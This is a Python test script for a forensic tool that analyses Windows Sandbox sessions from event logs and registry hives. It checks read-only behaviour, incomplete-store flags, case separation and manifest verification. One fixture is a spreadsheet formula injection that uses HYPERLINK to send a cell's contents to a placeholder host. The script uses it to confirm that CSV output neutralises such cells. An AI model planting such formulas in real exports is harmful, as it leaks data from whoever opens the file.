#!/usr/bin/python3
"""Every statement true and checkable (issue 11): each part below failed on the code before it.

- Read commands never write: case.db hashes the same before and after facts, sessions (text and
  JSON), show, timeline (three formats), report and verify; a write-protected copy of the outputs
  is fully readable by an unprivileged user.
- A store whose run did not finish (ingest killed) is flagged by every read command, which exits
  non-zero unless --allow-incomplete is given; the report then says so before anything else.
- analyze refuses to write a second case into a folder that holds another one (other case name,
  or other evidence), accepts a rerun of the same collection, and adds with --add.
- analyze of nothing does not report a clean result: no "parsed completely" over no input, and
  "no session" qualified by the logs that were there.
- CSV cells that a spreadsheet would run as formulas are neutralised ("'" prefix); JSONL and the
  store stay byte-exact; --csv-raw writes them as stored.
- A 4698's TaskName names the task when its content has no URI; an event's TaskContent (already
  decoded text) is not reported as an encoding problem.
- Facts read from a dirty hive are never "high" confidence and say why.
- verify lists a file added to the output folder, catches a rewritten manifest through the
  outputs the store recorded, and checks the manifest's own hash against --manifest-sha256.
"""
import csv
import hashlib
import json
import os
import shutil
import signal
import sqlite3
import struct
import subprocess
import sys
import tempfile
import time

failures = []


def check(condition, message):
    if not condition:
        failures.append(message)


def sha256(path):
    return hashlib.sha256(open(path, "rb").read()).hexdigest()


def run(args, **kw):
    return subprocess.run(args, capture_output=True, text=True, **kw)


NS = 'xmlns="http://schemas.microsoft.com/win/2004/08/events/event"'
FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"click")'


def event(record, event_id, computer, provider, data, when="2025-01-08T01:02:03.0000000Z"):
    fields = "".join('<Data Name="%s">%s</Data>' % (k, v.replace("&", "&amp;").replace("<", "&lt;")
                                                     .replace('"', "&quot;"))
                     for k, v in data)
    return ('<Event %s><System><Provider Name="%s"/><EventID>%d</EventID><Version>0</Version>'
            '<Level>0</Level><Task>0</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords>'
            '<TimeCreated SystemTime="%s"/><EventRecordID>%d</EventRecordID><Correlation/>'
            '<Execution ProcessID="4" ThreadID="8"/><Channel>Security</Channel><Computer>%s</Computer>'
            '<Security/></System><EventData>%s</EventData></Event>'
            % (NS, provider, event_id, when, record, computer.replace("&", "&amp;").replace('"', "&quot;"),
               fields))


def read_commands(sandtrace, db, extra=()):
    out = os.path.join(os.path.dirname(db), "..", "report-read.html")
    return [
        [sandtrace, "facts", "--case", db, *extra],
        [sandtrace, "sessions", "--case", db, *extra],
        [sandtrace, "sessions", "--json", "--case", db, *extra],
        [sandtrace, "show", "1", "--case", db, *extra],
        [sandtrace, "timeline", "--case", db, "--format", "csv", *extra],
        [sandtrace, "timeline", "--case", db, "--format", "jsonl", *extra],
        [sandtrace, "timeline", "--case", db, "--format", "body", *extra],
        [sandtrace, "report", "--case", db, "-o", os.path.abspath(out), *extra],
        [sandtrace, "verify", "--case", db, *extra],
    ]


def check_reads_never_write(sandtrace, out):
    db = os.path.join(out, "case.db")
    before = sha256(db)
    for args in read_commands(sandtrace, db):
        r = run(args)
        check(r.returncode in (0, 1), "%s exited %d: %s" % (args[1], r.returncode, r.stderr[-300:]))
        check(sha256(db) == before, "%s changed case.db" % " ".join(args[1:3]))
    check(not os.path.exists(db + "-wal"), "a -wal file is left beside case.db after analyze")
    # A write-protected copy, read by an unprivileged user.
    if os.geteuid() != 0:
        print("SKIP part: not root, cannot read as another user")
        return
    ro = tempfile.mkdtemp(prefix="st-ro-", dir=os.path.dirname(out))
    os.chmod(ro, 0o755)
    copy = os.path.join(ro, "out")
    shutil.copytree(out, copy)
    for root, dirs, files in os.walk(copy):
        for name in files:
            os.chmod(os.path.join(root, name), 0o444)
        os.chmod(root, 0o555)
    report = os.path.join(tempfile.mkdtemp(prefix="st-nobody-", dir=os.path.dirname(out)), "r.html")
    os.chmod(os.path.dirname(report), 0o777)

    def as_nobody():
        os.setgid(65534)
        os.setuid(65534)

    for args in read_commands(sandtrace, os.path.join(copy, "case.db")):
        if args[1] == "report":
            args = args[:-1] + [report]
        r = run(args, preexec_fn=as_nobody)
        check(r.returncode == 0, "read-only copy: %s exited %d: %s" % (" ".join(args[1:3]), r.returncode,
                                                                      r.stderr[-300:]))
        check("readonly" not in r.stderr and "read-only" not in r.stderr,
              "read-only copy: %s complained: %s" % (args[1], r.stderr[-200:]))
    check(os.path.exists(report) and os.path.getsize(report) > 10000, "report from a read-only store")
    r = run([sandtrace, "sessions", "--case", os.path.join(copy, "case.db")], preexec_fn=as_nobody)
    check("E7A13C52" in r.stdout, "read-only copy: sessions lists the malicious session")
    for root, dirs, files in os.walk(ro):
        os.chmod(root, 0o755)  # so that the temporary folder can be removed


def check_show_citations(sandtrace, out):
    """Each step of `show` cites the file, its full SHA-256, the record and its byte offset: the
    bytes there are that record (issue 11, item 3: every record was cited at offset 0)."""
    import re
    db = os.path.join(out, "case.db")
    con = sqlite3.connect(db)
    paths = dict(con.execute("SELECT e.sha256, min(p.path) FROM evidence e JOIN evidence_paths p ON "
                             "p.evidence_id = e.id GROUP BY e.id"))
    con.close()
    r = run([sandtrace, "show", "2", "--case", db])
    cited = re.findall(r"record (\d+) \(event \d+\), chunk (\d+) at byte offset (\d+), in [^ ]+ "
                       r"\(sha256 ([0-9a-f]{64})\)", r.stdout)
    check(len(cited) > 10, "show 2 cites %d records with their offsets" % len(cited))
    # A strong link that rests on a layout the method marks unconfirmed says so where it is used.
    for step, caveat in (("network adapter connected", "unconfirmed layout: that a sandbox writes VmSwitch"),
                         ("the host ran", "unconfirmed layout: where 2500 keeps its fields")):
        lines = r.stdout.splitlines()
        hits = [i for i, l in enumerate(lines) if step in l]
        check(hits and caveat in lines[hits[0] + 1], "show: the %r step does not say %r" % (step, caveat))
    for record, chunk, offset, sha in cited:
        data = open(paths[sha], "rb").read()
        offset = int(offset)
        check(data[offset:offset + 4] == b"**\0\0" and struct.unpack_from("<Q", data, offset + 8)[0] == int(record)
              and int(chunk) == (offset - 4096) // 65536,
              "show cites record %s at offset %d, chunk %s: the bytes there are not that record" % (record, offset, chunk))


def check_killed_ingest(sandtrace, col, tmp):
    # A collection large enough to stop in the middle: the bundled case and 40 distinct copies of
    # its logs (a trailing byte each makes the content distinct; the records are the same).
    big = os.path.join(tmp, "big")
    shutil.copytree(col, big)
    logs = os.path.join(col, "C", "Windows", "System32", "winevt", "Logs")
    for i in range(40):
        d = os.path.join(big, "copy%02d" % i)
        os.makedirs(d)
        for name in os.listdir(logs):
            data = open(os.path.join(logs, name), "rb").read() + bytes([i])
            open(os.path.join(d, name), "wb").write(data)
    db = None
    for delay in (0.4, 0.8, 1.2, 1.6, 2.4, 3.2, 0.2):
        candidate = os.path.join(tmp, "killed-%s.db" % delay)
        p = subprocess.Popen([sandtrace, "ingest", big, "--case", candidate, "--jobs", "1"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(delay)
        p.send_signal(signal.SIGKILL)
        p.wait()
        if not os.path.exists(candidate):
            continue
        try:
            con = sqlite3.connect("file:%s?mode=ro" % candidate, uri=True)
            unfinished = con.execute("SELECT count(*) FROM run WHERE finished IS NULL").fetchone()[0]
            con.close()
        except sqlite3.Error:
            continue
        if unfinished:
            db = candidate
            break
    if not db:
        check(False, "could not stop an ingest in the middle (it always finished or never began)")
        return
    for args in read_commands(sandtrace, db):
        r = run(args)
        check(r.returncode != 0, "killed store: %s exited 0" % " ".join(args[1:3]))
        check("did not finish" in r.stderr, "killed store: %s did not say the run did not finish: %s"
              % (" ".join(args[1:3]), r.stderr[-300:]))
    for args in read_commands(sandtrace, db, ["--allow-incomplete"]):
        if args[1] == "show":
            continue  # no session was correlated in a killed ingest
        r = run(args)
        check(r.returncode in (0, 1) and "did not finish" in r.stderr,
              "killed store with --allow-incomplete: %s exited %d: %s" % (args[1], r.returncode, r.stderr[-300:]))
        if args[1] == "report":
            html = open(args[5], encoding="utf-8").read()
            first = html.find('id="incomplete"')
            check(0 <= first < html.find('id="run-metadata"'),
                  "the report does not say first that the store is incomplete")
    # Completing the ingest (same collection) makes the store complete again.
    r = run([sandtrace, "ingest", big, "--case", db])
    check(r.returncode == 0, "ingest after a kill: %d %s" % (r.returncode, r.stderr[-300:]))
    r = run([sandtrace, "sessions", "--case", db])
    check(r.returncode == 0 and "did not finish" not in r.stderr, "after a complete ingest: %s" % r.stderr[-300:])


def check_two_cases(sandtrace, col, tmp):
    out = os.path.join(tmp, "two")
    r = run([sandtrace, "analyze", col, "-o", out, "--case-name", "Case A"])
    check(r.returncode == 0, "analyze A: %d %s" % (r.returncode, r.stderr[-300:]))
    report_a = sha256(os.path.join(out, "report.html"))
    other = os.path.join(tmp, "other")
    os.makedirs(other)
    shutil.copy(os.path.join(col, "C", "Windows", "System32", "winevt", "Logs", "System.evtx"), other)
    r = run([sandtrace, "analyze", other, "-o", out, "--case-name", "Case B"])
    check(r.returncode != 0 and "another case" in r.stderr, "a second case name into the same folder: %d %s"
          % (r.returncode, r.stderr[-300:]))
    r = run([sandtrace, "analyze", other, "-o", out])
    check(r.returncode != 0 and "another case" in r.stderr, "other evidence into the same folder: %d %s"
          % (r.returncode, r.stderr[-300:]))
    check(sha256(os.path.join(out, "report.html")) == report_a, "a refused analyze changed the report")
    r = run([sandtrace, "analyze", col, "-o", out, "--case-name", "Case A"])
    check(r.returncode == 0, "rerun of the same case refused: %s" % r.stderr[-300:])
    r = run([sandtrace, "analyze", other, "-o", out, "--case-name", "Case A", "--add"])
    check(r.returncode == 0, "--add refused: %s" % r.stderr[-300:])
    check(not [n for n in os.listdir(out) if n.endswith(".partial")], "temporary outputs left behind")


def check_nothing(sandtrace, tmp):
    out = os.path.join(tmp, "nothing")
    r = run([sandtrace, "analyze", os.path.join(tmp, "does-not-exist"), "-o", out])
    check(r.returncode == 1, "analyze of a missing folder exited %d" % r.returncode)
    html = open(os.path.join(out, "report.html"), encoding="utf-8").read()
    check("parsed completely" not in html, "the report of nothing says every input was parsed completely")
    check("cannot be seen" in html, "the report of nothing does not say sessions cannot be seen")
    check("No sandbox session was found" not in html, "an unqualified 'no session' over nothing")
    # A collection with only a log that holds no session source: qualified by what was there.
    only = os.path.join(tmp, "only-system")
    os.makedirs(only)
    empty = os.path.join(tmp, "empty.xml")
    open(empty, "w").write("<Events>%s</Events>" % event(1, 7036, "PC-X", "Service Control Manager",
                                                          [("param1", "x")]))
    return empty, only


def check_csv_formulas(stforge, sandtrace, tmp):
    src = os.path.join(tmp, "formula.xml")
    open(src, "w", encoding="utf-8").write("<Events>%s%s</Events>" % (
        event(11, 4688, FORMULA, "Microsoft-Windows-Security-Auditing", [("CommandLine", "x")]),
        event(12, 4688, "@SUM(1+1)", "Microsoft-Windows-Security-Auditing", [("CommandLine", "y")],
              "2025-01-08T01:02:04.0000000Z")))
    col = os.path.join(tmp, "formula-col")
    os.makedirs(col)
    subprocess.run([stforge, "evtx", src, os.path.join(col, "Security.evtx")], check=True)
    out = os.path.join(tmp, "formula-out")
    r = run([sandtrace, "analyze", col, "-o", out])
    check(r.returncode == 0, "analyze formula collection: %s" % r.stderr[-300:])
    rows = list(csv.DictReader(open(os.path.join(out, "timeline.csv"), newline="", encoding="utf-8")))
    names = [row["computer_name"] for row in rows if row["computer_name"]]
    check("'" + FORMULA in names and "'@SUM(1+1)" in names, "CSV formulas not neutralised: %s" % names[:4])
    check(FORMULA not in names, "a raw formula cell in the CSV")
    check(all(row["timestamp"].lstrip("-").isdigit() for row in rows), "a numeric CSV cell was prefixed")
    lines = [json.loads(l) for l in open(os.path.join(out, "timeline.jsonl"), encoding="utf-8")]
    check(FORMULA in [l.get("computer_name") for l in lines], "JSONL must keep the value byte-exact")
    con = sqlite3.connect(os.path.join(out, "case.db"))
    check(con.execute("SELECT count(*) FROM events WHERE computer = ?", (FORMULA,)).fetchone()[0] == 1,
          "the store must keep the value byte-exact")
    con.close()
    r = run([sandtrace, "timeline", "--case", os.path.join(out, "case.db"), "--format", "csv", "--csv-raw"])
    raw = [row["computer_name"] for row in csv.DictReader(r.stdout.splitlines())]
    check(FORMULA in raw, "--csv-raw must write the value as stored")


def check_tasks_and_dirty_hive(stforge, sandtrace, col, tmp):
    # 4698 whose TaskContent has no URI: the task takes the event's TaskName.
    content = ('<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" '
               'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo>'
               '<Author>x</Author></RegistrationInfo><Actions Context="Author"><Exec>'
               '<Command>C:\\Windows\\System32\\WindowsSandbox.exe</Command><Arguments>C:\\x\\a.wsb'
               '</Arguments></Exec></Actions></Task>')
    src = os.path.join(tmp, "task4698.xml")
    open(src, "w", encoding="utf-8").write("<Events>%s</Events>" % event(
        21, 4698, "PC-T", "Microsoft-Windows-Security-Auditing",
        [("SubjectUserName", "k"), ("TaskName", "\\Hidden\\NoUriTask"), ("TaskContent", content)]))
    tcol = os.path.join(tmp, "task-col")
    shutil.copytree(col, tcol)
    subprocess.run([stforge, "evtx", src, os.path.join(tcol, "Security-4698.evtx")], check=True)
    # The SOFTWARE hive made dirty: secondary sequence number changed, checksum fixed.
    hive = os.path.join(tcol, "C", "Windows", "System32", "config", "SOFTWARE")
    data = bytearray(open(hive, "rb").read())
    struct.pack_into("<I", data, 8, struct.unpack_from("<I", data, 4)[0] + 1)
    checksum = 0
    for i in range(0, 508, 4):
        checksum ^= struct.unpack_from("<I", data, i)[0]
    struct.pack_into("<I", data, 508, checksum)
    open(hive, "wb").write(data)
    db = os.path.join(tmp, "task.db")
    r = run([sandtrace, "ingest", tcol, "--case", db])
    check(r.returncode == 0, "ingest task collection: %s" % r.stderr[-300:])
    con = sqlite3.connect(db)
    rows = con.execute("SELECT uri, parse_problem, encoding_repaired FROM tasks WHERE source = 'event_4698'"
                       ).fetchall()
    check(("\\Hidden\\NoUriTask", None, 0) in rows, "4698 TaskName not used, or encoding reported: %s" % rows)
    check(not any(p and "labelled" in p for _, p, _ in rows), "4698 content reported as mislabelled")
    facts = con.execute("SELECT f.confidence, f.detail FROM facts f JOIN evidence_paths p ON "
                        "p.evidence_id = f.evidence_id WHERE p.path LIKE '%config/SOFTWARE'").fetchall()
    check(facts, "no facts from the dirty SOFTWARE hive")
    check(all(c != "high" for c, _ in facts), "a fact from a dirty hive rated high: %s" % facts[:2])
    check(all("dirty" in d for _, d in facts), "a fact from a dirty hive does not say so")
    con.close()


def check_verify_anchors(sandtrace, out):
    manifest = os.path.join(out, "manifest.txt")
    db = os.path.join(out, "case.db")
    good = sha256(manifest)
    r = run([sandtrace, "verify", "--case", db, "--outputs", out, "--manifest-sha256", good])
    check(r.returncode == 0 and good in r.stdout, "verify with the right manifest hash: %d %s"
          % (r.returncode, r.stdout[-300:]))
    open(os.path.join(out, "notes.txt"), "w").write("added later\n")
    r = run([sandtrace, "verify", "--case", db, "--outputs", out])
    check(r.returncode == 1 and any(l.startswith("extra") and l.endswith("notes.txt (not in the manifest)")
                                    for l in r.stdout.splitlines()),
          "verify did not list an extra file: %s" % r.stdout[-300:])
    os.remove(os.path.join(out, "notes.txt"))
    # Change a timeline and rewrite the manifest to match: the store's record catches it.
    target = os.path.join(out, "timeline.jsonl")
    open(target, "a").write("\n")
    lines = open(manifest).read().splitlines()
    lines = ["%s  timeline.jsonl" % sha256(target) if l.endswith("  timeline.jsonl") else l for l in lines]
    open(manifest, "w").write("\n".join(lines) + "\n")
    r = run([sandtrace, "verify", "--case", db, "--outputs", out, "--manifest-sha256", good])
    check(r.returncode == 1, "verify accepted a rewritten manifest")
    check(any("changed" in l and "timeline.jsonl" in l and l.startswith("(store)") for l in r.stdout.splitlines()),
          "the store's output record did not catch the rewritten manifest: %s" % r.stdout[-400:])
    check(any(l.startswith("changed") and "manifest.txt" in l for l in r.stdout.splitlines()),
          "--manifest-sha256 did not catch the rewritten manifest")


def main():
    stforge, sandtrace, source = sys.argv[1:4]
    with tempfile.TemporaryDirectory() as tmp:
        os.chmod(tmp, 0o755)  # the unprivileged reader must reach the evidence, for verify
        col = os.path.join(tmp, "collection")
        subprocess.run([stforge, "case", source, col], check=True, capture_output=True)
        out = os.path.join(tmp, "out")
        r = run([sandtrace, "analyze", col, "-o", out, "--case-name", "Soundness"])
        check(r.returncode == 0, "analyze: %d %s" % (r.returncode, r.stderr[-500:]))
        check_reads_never_write(sandtrace, out)
        check_show_citations(sandtrace, out)
        check_killed_ingest(sandtrace, col, tmp)
        check_two_cases(sandtrace, col, tmp)
        empty, only = check_nothing(sandtrace, tmp)
        subprocess.run([stforge, "evtx", empty, os.path.join(only, "System.evtx")], check=True)
        r = run([sandtrace, "analyze", only, "-o", os.path.join(tmp, "only-out")])
        html = open(os.path.join(tmp, "only-out", "report.html"), encoding="utf-8").read()
        check("cannot be seen" in html, "a collection without session sources is not qualified")
        check_csv_formulas(stforge, sandtrace, tmp)
        check_tasks_and_dirty_hive(stforge, sandtrace, col, tmp)
        check_verify_anchors(sandtrace, out)
    for f in failures[:60]:
        print("FAIL: " + f)
    if not failures:
        print("soundness: reads never write, incomplete stores flagged, cases kept apart, "
              "negative results qualified, CSV formulas neutralised, 4698 names, dirty hives, verify anchors")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
